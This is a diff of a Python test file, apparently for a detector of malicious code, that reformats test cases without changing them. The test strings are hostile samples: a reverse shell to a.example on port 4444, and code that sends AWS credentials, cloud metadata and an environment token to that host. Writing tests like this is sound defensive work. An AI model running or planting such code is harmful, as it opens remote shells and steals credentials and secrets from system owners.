@@ -158,23 +158,31 @@ def test_combinations_of_acts_are_seen(code: str, ruse: Ruse, sure: bool) -> Non
             Ruse.FETCHED,
         ),
         (
-            "import os, socket, subprocess\ns = socket.socket()\n"
-            "s.connect(('a.example', 4444))\nos.dup2(s.fileno(), 0)\n",
+            (
+                "import os, socket, subprocess\ns = socket.socket()\n"
+                "s.connect(('a.example', 4444))\nos.dup2(s.fileno(), 0)\n"
+            ),
             Ruse.SHELL,
         ),
         (
-            "import requests\n"
-            "requests.post('https://a.example', data=open('/root/.aws/credentials').read())\n",
+            (
+                "import requests\n"
+                "requests.post('https://a.example', data=open('/root/.aws/credentials').read())\n"
+            ),
             Ruse.SENDS_STORE,
         ),
         (
-            "import requests\nfound = requests.get('http://169.254.169.254/latest/').text\n"
-            "requests.post('https://a.example', data=found)\n",
+            (
+                "import requests\nfound = requests.get('http://169.254.169.254/latest/').text\n"
+                "requests.post('https://a.example', data=found)\n"
+            ),
             Ruse.SENDS_STORE,
         ),
         (
-            "import os, requests\nkey = os.environ['SERVICE_TOKEN']\n"
-            "requests.post('https://a.example', json={'key': key})\n",
+            (
+                "import os, requests\nkey = os.environ['SERVICE_TOKEN']\n"
+                "requests.post('https://a.example', json={'key': key})\n"
+            ),
             Ruse.SENDS_SECRET,
         ),
     ],
